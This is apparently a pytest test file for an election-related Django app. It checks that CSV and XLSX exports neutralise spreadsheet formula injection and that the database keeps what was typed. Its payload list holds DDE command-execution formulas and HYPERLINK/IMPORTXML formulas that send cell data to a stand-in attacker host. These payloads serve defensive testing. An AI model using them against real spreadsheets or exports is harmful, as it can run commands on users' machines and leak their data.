"""No export of any app carries a live spreadsheet formula, and the database keeps what was typed.

Payloads after OWASP's "CSV Injection" page: formulas, DDE, HYPERLINK exfiltration, and cells that
start with +, -, @, tab or carriage return. Each is stored through the apps' own services, then
every CSV and XLSX export is read back the way a spreadsheet program would.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from safelect.core import exports
from safelect.core.accounts.actor import Actor
from safelect.core.accounts.testing import make_member
from safelect.core.directory.models import Organization, State
from safelect.core.obligations import services as obligations
from safelect.core.obligations.services import SubjectRef
from safelect.programs.engagements import exports as engagement_exports
from safelect.programs.engagements import services as engagements
from safelect.programs.engagements.models import Engagement

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
    '=IMPORTXML(CONCAT("http://attacker.invalid/?v=", A2), "//a")',
]


def test_neutralise_and_restore_are_inverse_and_cover_every_trigger():
    for payload in PAYLOADS + ["plain", "", "O'Brien", "''", "-", "x=1"]:
        safe = exports.neutralise(payload)
        assert exports.restore(safe) == payload
        assert not safe.startswith(exports.TRIGGERS), payload
    assert exports.neutralise(-5) == -5 and exports.neutralise("x=1") == "x=1"


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _assert_no_formula_in_csv(data: bytes, payloads=PAYLOADS) -> None:
    cells = _csv_cells(data)
    for cell in cells:
        assert not cell.startswith(exports.TRIGGERS), cell
    for payload in payloads:  # each payload is there, as text, after the apostrophe
        assert "'" + payload in cells or any(("'" + payload) in c for c in cells), payload


def _assert_no_formula_in_xlsx(data: bytes, payloads=PAYLOADS) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    book = load_workbook(io.BytesIO(data))
    values = [c.value for ws in book for row in ws.iter_rows() for c in row]
    types = {c.data_type for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert types <= {"s"}, types
    for payload in payloads:
        assert payload in values or any(isinstance(v, str) and payload.strip() in v for v in values), payload


@pytest.fixture
def hostile_engagement(db):
    wisconsin = State.objects.get(usps="WI")
    fields = [
        "location",
        "attendees",
        "discussion",
        "issues",
        "follow_up",
        "leadership_awareness",
        "leadership_action",
        "next_engagement",
        "notes",
    ]
    created = []
    for start in range(0, len(PAYLOADS), len(fields)):
        chunk = PAYLOADS[start : start + len(fields)]
        created.append(
            engagements.create_engagement(
                Actor.system(), {"state": wisconsin, "meeting_date": dt.date(2026, 3, 2), **dict(zip(fields, chunk, strict=False))}
            )
        )
    return created


@pytest.mark.django_db
def test_engagement_exports_are_formula_safe_and_the_database_keeps_the_text(hostile_engagement):
    stored = [hostile_engagement[0].text("location").internal()]
    assert stored == [PAYLOADS[0]]  # the original text, not the neutralised one
    for release in (False, True):
        summary = engagement_exports.build_summary(Engagement.objects.filter(pk__in=[e.pk for e in hostile_engagement]), release=release)
        _assert_no_formula_in_csv(engagement_exports.write(summary, "csv"))
        _assert_no_formula_in_xlsx(engagement_exports.write(summary, "xlsx"))


@pytest.mark.django_db
def test_engagement_csv_export_reads_back_unchanged(hostile_engagement):
    summary = engagement_exports.build_summary(Engagement.objects.filter(pk__in=[e.pk for e in hostile_engagement]), release=False)
    preview = engagements.preview_file(engagement_exports.write(summary, "csv"), "export.csv")
    assert preview.changes_nothing


@pytest.mark.django_db
def test_engagement_export_page_serves_formula_safe_files(hostile_engagement):
    _, staff = make_member("national_program_staff")
    for fmt, check in (("csv", _assert_no_formula_in_csv), ("xlsx", _assert_no_formula_in_xlsx)):
        response = staff.get("/engagements/export/", {"format": fmt})
        assert response.status_code == 200, response.status_code
        body = b"".join(response.streaming_content) if response.streaming else response.content
        check(body)


@pytest.mark.django_db
def test_obligations_csv_is_formula_safe():
    county = Organization.objects.filter(kind="local_election_agency", state__usps="WI").order_by("pk").first()
    for n, payload in enumerate(PAYLOADS):
        obligations.open(
            "S2261-4i", SubjectRef("sharing.incidentreport", f"x{n}", payload), dt.datetime.now(dt.UTC) - dt.timedelta(hours=1), county
        )
    _, official = make_member("local_election_official", county)
    response = official.get("/obligations/export.csv")
    body = b"".join(response.streaming_content)
    _assert_no_formula_in_csv(body, [p for p in PAYLOADS if "\r" not in p])
